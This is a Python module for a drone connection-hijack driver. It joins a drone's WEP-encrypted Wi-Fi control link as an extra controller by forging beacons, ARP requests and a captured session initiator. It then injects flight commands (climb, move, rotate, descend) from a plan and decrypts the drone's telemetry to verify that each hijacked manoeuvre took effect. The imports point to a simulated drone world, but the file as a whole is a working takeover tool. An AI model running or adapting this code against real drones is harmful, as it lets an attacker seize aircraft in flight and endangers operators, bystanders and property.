"""Connection hijack driver.

The driver joins the link as an extra controller (beacon, ARP request,
captured connection initiator), keeps it alive with idle controls at the
controller's rate, then plays the plan.  Each step is bracketed by idle
gaps; the drone's own encrypted telemetry before and after a step gives the
observed effect, which is compared with the step's expected kinematic
signature.
"""

from __future__ import annotations

import enum
import json
import math
from dataclasses import dataclass, field
from pathlib import Path
from typing import List, Optional, Sequence, Tuple

from ..framing import CommandId
from ..linkproto import dot11
from ..linkproto.scan import detect_beacon_channel
from ..simworld.kinematics import CLIMB_RATE, HORIZONTAL_DECEL, HORIZONTAL_SPEED, YAW_RATE, DroneBody, body_to_world
from ..simworld.telemetry import Telemetry, decode_telemetry
from ..wepcrypt.wep import IcvMismatch, WepFrame, WepKey, wep_decrypt
from .forge import ForgedFrames, forge_session
from .transport import transport_scanner

DEFAULT_ATTACKER_MAC = bytes.fromhex("0200de0a0b0c")
TOLERANCE = 0.10
IDLE_POSITION_FLOOR = 0.25  # m
IDLE_HEADING_FLOOR = 2.5  # deg

_HORIZONTAL = {
    CommandId.FullForward: (1.0, 0.0),
    CommandId.FullBackward: (-1.0, 0.0),
    CommandId.FullFlyRight: (0.0, 1.0),
    CommandId.FullFlyLeft: (0.0, -1.0),
}


class TakeoverMode(enum.Enum):
    CoexistWithRc = "CoexistWithRc"
    AfterRcDisconnect = "AfterRcDisconnect"


class ConnectFailed(RuntimeError):
    pass


class StepUnverified(AssertionError):
    def __init__(self, index: int):
        super().__init__(f"step {index} not verified")
        self.index = index


class InvalidPlan(ValueError):
    pass


@dataclass(frozen=True)
class HijackPlan:
    steps: Tuple[Tuple[CommandId, float], ...]
    mode: TakeoverMode = TakeoverMode.AfterRcDisconnect

    def __post_init__(self):
        if not self.steps:
            raise InvalidPlan("plan has no steps")
        for cmd, duration in self.steps:
            if not isinstance(cmd, CommandId):
                raise InvalidPlan(f"bad command {cmd!r}")
            if duration <= 0:
                raise InvalidPlan("step durations must be positive")

    @classmethod
    def from_dict(cls, doc: dict) -> "HijackPlan":
        try:
            steps = tuple((CommandId.parse(s["command"]), float(s["duration"])) for s in doc["steps"])
            return cls(steps, TakeoverMode(doc.get("mode", TakeoverMode.AfterRcDisconnect.value)))
        except (KeyError, TypeError, ValueError) as exc:
            raise InvalidPlan(f"malformed plan: {exc}") from exc

    @classmethod
    def load(cls, path) -> "HijackPlan":
        return cls.from_dict(json.loads(Path(path).read_text()))

    def to_dict(self) -> dict:
        return {"mode": self.mode.value, "steps": [{"command": c.name, "duration": d} for c, d in self.steps]}

    def with_mode(self, mode: TakeoverMode) -> "HijackPlan":
        return HijackPlan(self.steps, mode)


def all_commands_plan(mode: TakeoverMode = TakeoverMode.AfterRcDisconnect, duration: float = 0.5) -> HijackPlan:
    """Every command of the table once, in an order that keeps each one observable."""
    order = (
        CommandId.Ready,
        CommandId.FullUp,
        CommandId.FullForward,
        CommandId.FullBackward,
        CommandId.FullFlyRight,
        CommandId.FullFlyLeft,
        CommandId.FullRotateRight,
        CommandId.FullRotateLeft,
        CommandId.Idle,
        CommandId.FullDown,
    )
    return HijackPlan(tuple((cmd, duration) for cmd in order), mode)


@dataclass(frozen=True)
class StepResult:
    index: int
    command: CommandId
    duration: float
    verified: bool
    expected: dict
    observed: dict

    def to_json(self) -> dict:
        return {
            "index": self.index,
            "command": self.command.name,
            "duration": self.duration,
            "verified": self.verified,
            "expected": _rounded(self.expected),
            "observed": _rounded(self.observed),
        }


@dataclass
class HijackReport:
    mode: TakeoverMode
    channel: int
    drone_mac: Optional[bytes] = None
    connected: bool = False
    steps: List[StepResult] = field(default_factory=list)
    frames_injected: int = 0

    @property
    def verified_count(self) -> int:
        return sum(s.verified for s in self.steps)

    @property
    def all_verified(self) -> bool:
        return self.connected and bool(self.steps) and all(s.verified for s in self.steps)

    def raise_for_failure(self) -> None:
        for step in self.steps:
            if not step.verified:
                raise StepUnverified(step.index)

    def to_json(self) -> dict:
        return {
            "mode": self.mode.value,
            "channel": self.channel,
            "drone_mac": dot11.mac_to_str(self.drone_mac) if self.drone_mac else None,
            "connected": self.connected,
            "verified": self.verified_count,
            "steps": [s.to_json() for s in self.steps],
            "frames_injected": self.frames_injected,
        }


def _rounded(d: dict) -> dict:
    return {k: round(v, 6) if isinstance(v, float) else v for k, v in d.items()}


def _wrap(angle: float) -> float:
    return (angle + 180.0) % 360.0 - 180.0


def expected_effect(cmd: CommandId, duration: float, before: DroneBody) -> dict:
    """The signature a step should leave on the drone, from its state before the step."""
    if cmd is CommandId.Ready:
        return {"propellers": True}
    if cmd is CommandId.Idle:
        return {"dx": 0.0, "dy": 0.0, "dz": 0.0, "dheading": 0.0}
    if not before.propellers:
        return {"dx": 0.0, "dy": 0.0, "dz": 0.0, "dheading": 0.0, "moves": False}
    if cmd is CommandId.FullUp:
        return {"dz": CLIMB_RATE * duration}
    if cmd is CommandId.FullDown:
        if not before.airborne:
            return {"propellers": False}
        return {"dz": -min(before.z, CLIMB_RATE * duration)}
    if not before.airborne:
        return {"dx": 0.0, "dy": 0.0, "dz": 0.0, "dheading": 0.0, "moves": False}
    if cmd in _HORIZONTAL:
        fwd, right = _HORIZONTAL[cmd]
        # full speed for the step, then braking to a stop
        dist = HORIZONTAL_SPEED * duration + HORIZONTAL_SPEED**2 / (2 * HORIZONTAL_DECEL)
        dx, dy = body_to_world(before.heading, fwd * dist, right * dist)
        return {"dx": dx, "dy": dy}
    sign = 1.0 if cmd is CommandId.FullRotateRight else -1.0
    return {"dheading": sign * YAW_RATE * duration}


def observed_effect(before: DroneBody, after: DroneBody) -> dict:
    return {
        "dx": after.x - before.x,
        "dy": after.y - before.y,
        "dz": after.z - before.z,
        "dheading": _wrap(after.heading - before.heading),
        "propellers_before": before.propellers,
        "propellers_after": after.propellers,
    }


def verify_effect(cmd: CommandId, expected: dict, observed: dict) -> bool:
    if expected.get("moves") is False:
        return False
    if "propellers" in expected:
        return observed["propellers_after"] == expected["propellers"] and (
            observed["propellers_before"] != expected["propellers"]
        )
    if cmd is CommandId.Idle:
        return (
            math.hypot(observed["dx"], observed["dy"]) <= IDLE_POSITION_FLOOR
            and abs(observed["dz"]) <= IDLE_POSITION_FLOOR
            and abs(observed["dheading"]) <= IDLE_HEADING_FLOOR
        )
    if "dheading" in expected:
        want = expected["dheading"]
        return abs(_wrap(observed["dheading"] - want)) <= TOLERANCE * abs(want)
    if "dx" in expected:
        want = math.hypot(expected["dx"], expected["dy"])
        err = math.hypot(observed["dx"] - expected["dx"], observed["dy"] - expected["dy"])
        return err <= TOLERANCE * want and abs(observed["dz"]) <= IDLE_POSITION_FLOOR
    want = expected["dz"]
    return abs(observed["dz"] - want) <= max(TOLERANCE * abs(want), 1e-6)


class HijackDriver:
    """Stepped attacker: every method that waits advances the transport tick by tick."""

    def __init__(
        self,
        transport,
        key: WepKey,
        templates: ForgedFrames,
        *,
        attacker_mac: bytes = DEFAULT_ATTACKER_MAC,
        control_rate_hz: int = 50,
        beacon_interval_ms: int = 100,
        iv_salt: int = 0x5EED,
    ) -> None:
        self.transport = transport
        self.key = key
        self.factory = forge_session(key, templates, attacker_mac, iv_salt=iv_salt)
        self.templates = templates
        self.ticks = 0
        self.command = None  # None: not yet streaming controls
        self.latest: Optional[Tuple[int, Telemetry]] = None  # (tick heard, telemetry)
        self.control_every = max(1, round(1e6 / control_rate_hz / transport.tick_us))
        self.beacon_every = max(1, round(beacon_interval_ms * 1000 / transport.tick_us))
        self.injected = 0

    def _send(self, raw: bytes) -> None:
        self.transport.send(raw)
        self.injected += 1

    def _handle(self, raw: bytes) -> Optional[dot11.ArpPacket]:
        try:
            frame = dot11.parse_dot11(raw)
        except dot11.MalformedFrame:
            return None
        if not (frame.is_data and frame.protected):
            return None
        body_len = len(frame.body) - 8
        arp_len = dot11.ARP_PLAINTEXT_LEN
        tele_len = dot11.LLC_LEN + dot11.IP_UDP_LEN + 0x56
        if body_len not in (arp_len, tele_len):
            return None
        if body_len == arp_len and frame.dst != self.factory.mac:
            return None
        try:
            plain = wep_decrypt(self.key, WepFrame.from_bytes(frame.body))
        except (IcvMismatch, ValueError):
            return None
        parsed = dot11.parse_plaintext(plain)
        if isinstance(parsed, dot11.ArpPacket):
            return parsed
        if isinstance(parsed, dot11.UdpDatagram) and parsed.src_ip == self.templates.drone_ip:
            tele = decode_telemetry(parsed.payload, self.templates.crc)
            if tele is not None:
                self.latest = (self.ticks, tele)
        return None

    def tick(self) -> List[dot11.ArpPacket]:
        """Advance one tick: keep-alives out, then whatever was heard."""
        if self.ticks % self.beacon_every == 0:
            self._send(self.factory.beacon(self.ticks * self.transport.tick_us))
        if self.command is not None and self.ticks % self.control_every == 0:
            self._send(self.factory.control(self.command))
        heard = self.transport.sync()
        self.ticks += 1
        arps = []
        for raw in heard:
            arp = self._handle(raw)
            if arp is not None:
                arps.append(arp)
        return arps

    def wait(self, seconds: float) -> None:
        for _ in range(max(0, round(seconds * 1e6 / self.transport.tick_us))):
            self.tick()

    def connect(self, timeout: float = 3.0, arp_retry: float = 0.2, initiator_repeats: int = 3) -> bytes:
        retry_ticks = max(1, round(arp_retry * 1e6 / self.transport.tick_us))
        deadline = self.ticks + round(timeout * 1e6 / self.transport.tick_us)
        start = self.ticks
        drone_mac = None
        while drone_mac is None:
            if self.ticks >= deadline:
                raise ConnectFailed("no ARP reply from the drone")
            if (self.ticks - start) % retry_ticks == 0:
                self._send(self.factory.arp_request())
            for arp in self.tick():
                if arp.op == dot11.ARP_REPLY and arp.spa == self.templates.drone_ip:
                    drone_mac = arp.sha
        self.factory.drone_mac = drone_mac
        # the drone has no retransmission for this; repeating it is harmless
        for _ in range(initiator_repeats):
            self._send(self.factory.initiator())
            self.tick()
        self.command = CommandId.Idle
        return drone_mac

    def snapshot(self, since_tick: int, extra: float = 1.0) -> Optional[DroneBody]:
        """Latest telemetry heard at or after ``since_tick``, waiting up to ``extra`` seconds."""
        limit = self.ticks + round(extra * 1e6 / self.transport.tick_us)
        while self.latest is None or self.latest[0] < since_tick:
            if self.ticks >= limit:
                return None
            self.tick()
        return self.latest[1].body

    def run_step(self, index: int, cmd: CommandId, duration: float, gap: float, settle: float) -> StepResult:
        before = self.snapshot(self.ticks - round(gap * 1e6 / self.transport.tick_us) // 2)
        self.command = cmd
        self.wait(duration)
        self.command = CommandId.Idle
        gap_start = self.ticks
        self.wait(gap)
        after = self.snapshot(gap_start + round(settle * 1e6 / self.transport.tick_us))
        if before is None or after is None:
            return StepResult(index, cmd, duration, False, {}, {"telemetry": False})
        expected = expected_effect(cmd, duration, before)
        observed = observed_effect(before, after)
        return StepResult(index, cmd, duration, verify_effect(cmd, expected, observed), expected, observed)


def hijack(
    plan: HijackPlan,
    transport,
    key: WepKey,
    templates: ForgedFrames,
    *,
    channel: Optional[int] = None,
    channels: Sequence[int] = None,
    attacker_mac: bytes = DEFAULT_ATTACKER_MAC,
    gap: float = 0.5,
    settle: float = 0.3,
    strict: bool = False,
) -> HijackReport:
    """Take over the drone and fly ``plan``; returns the per-step verification report."""
    if channel is None:
        kwargs = {"channels": channels} if channels else {}
        channel = detect_beacon_channel(transport_scanner(transport), **kwargs)
    transport.tune(channel)
    driver = HijackDriver(transport, key, templates, attacker_mac=attacker_mac)
    report = HijackReport(plan.mode, channel)
    driver.wait(0.1)
    report.drone_mac = driver.connect()
    report.connected = True
    driver.wait(gap)
    for index, (cmd, duration) in enumerate(plan.steps):
        report.steps.append(driver.run_step(index, cmd, duration, gap, settle))
    report.frames_injected = driver.injected
    if strict:
        report.raise_for_failure()
    return report
